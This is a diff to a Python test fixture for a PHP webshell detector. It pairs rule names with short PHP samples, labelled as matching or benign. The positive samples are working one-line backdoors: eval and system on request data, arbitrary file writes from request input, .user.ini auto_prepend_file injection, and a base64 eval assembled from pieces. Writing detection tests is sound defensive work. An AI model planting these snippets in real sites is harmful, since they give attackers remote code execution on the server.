@@ -15,7 +15,8 @@ CASES: list[tuple[str, bytes, bool]] = [
     ),
     (
         "SPAMGEAR_TINY_AliasedInputFileWrite",
-        b"<?php\n$in = $GLOBALS['_POST'];\n$h = fopen($in['n'], 'w');\nfwrite($h, base64_decode($in['d']));\n",
+        b"<?php\n$in = $GLOBALS['_POST'];\n$h = fopen($in['n'], 'w');\n"
+        b"fwrite($h, base64_decode($in['d']));\n",
         True,
     ),
     (
@@ -93,7 +94,8 @@ CASES: list[tuple[str, bytes, bool]] = [
     ),
     (
         "SPAMGEAR_TINY_AppendedPiecesEval",
-        b"<?php\n$s = '';\n$s .= 'ZXZh';\n$s .= 'bCgk';\n$s .= 'X1BP';\n$s .= 'U1Rb';\neval(base64_decode($s));\n",
+        b"<?php\n$s = '';\n$s .= 'ZXZh';\n$s .= 'bCgk';\n$s .= 'X1BP';\n$s .= 'U1Rb';\n"
+        b"eval(base64_decode($s));\n",
         True,
     ),
     (
@@ -186,6 +188,75 @@ CASES: list[tuple[str, bytes, bool]] = [
         "SPAMGEAR_BACKDOOR_InputPathAndBodyWrite",
         b"<?php $c = curl_init($_GET['u']); $o = fopen('/var/cache/app/feed.xml', 'w');\n"
         b"curl_setopt($c, CURLOPT_FILE, $o); curl_exec($c);",
+        False,
+    ),
+    # --- round 2: raw body, $_SERVER request keys, upload names, dl(), .user.ini --------------------
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        b"<?php eval(urldecode($_SERVER['QUERY_STRING']));",
+        True,
+    ),
+    ("SPAMGEAR_INPUT_EvalOfInput", b"<?php eval($HTTP_RAW_POST_DATA);", True),
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        b"<?php eval('$x = 1;'); $path = $_SERVER['REQUEST_URI'];",
+        False,
+    ),
+    ("SPAMGEAR_INPUT_InputAsFunction", b"<?php dl($_GET['ext']);", True),
+    ("SPAMGEAR_INPUT_InputAsFunction", b"<?php if (!extension_loaded('gd')) { dl('gd.so'); }", False),
+    (
+        "SPAMGEAR_INPUT_InputAsFunction",
+        b"<?php mb_ereg_replace_callback('.+', $_GET['f'], $_GET['a']);",
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_SmallInputAndSink",
+        b"<?php $q = $_SERVER['QUERY_STRING']; system(urldecode($q));",
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_SmallInputAndSink",
+        b"<?php $q = $_SERVER['SERVER_NAME']; system(urldecode($q));",
+        False,
+    ),
+    (
+        "SPAMGEAR_INPUT_ArbitraryFileWrite",
+        b"<?php file_put_contents($_GET['f'], file_get_contents('php://input'));",
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_ArbitraryFileWrite",
+        b"<?php file_put_contents($_FILES['up']['name'], file_get_contents($_FILES['up']['tmp_name']));",
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_ArbitraryFileWrite",
+        b"<?php file_put_contents('upload.log', file_get_contents('php://input'));",
+        False,
+    ),
+    (
+        "SPAMGEAR_BACKDOOR_InputPathAndBodyWrite",
+        b"<?php $f = fopen($_GET['f'], 'w'); fwrite($f, file_get_contents('php://input')); fclose($f);",
+        True,
+    ),
+    (
+        "SPAMGEAR_TINY_InputNamedInputWrite",
+        b"<?php file_put_contents($_SERVER['DOCUMENT_ROOT'] . '/' . $_POST['name'], $_POST['data']);",
+        True,
+    ),
+    (
+        "SPAMGEAR_TINY_InputNamedInputWrite",
+        b"<?php file_put_contents(__DIR__ . '/notes/' . basename($_POST['name']), $_POST['data']);",
+        False,
+    ),
+    (
+        "SPAMGEAR_TINY_IniPrependWriter",
+        b"<?php file_put_contents('.user.ini', 'auto_prepend_file=' . $_GET['f']);",
+        True,
+    ),
+    (
+        "SPAMGEAR_TINY_IniPrependWriter",
+        b"<?php // see .user.ini\n$v = ini_get('auto_prepend_file'); echo $v;",
         False,
     ),
 ]
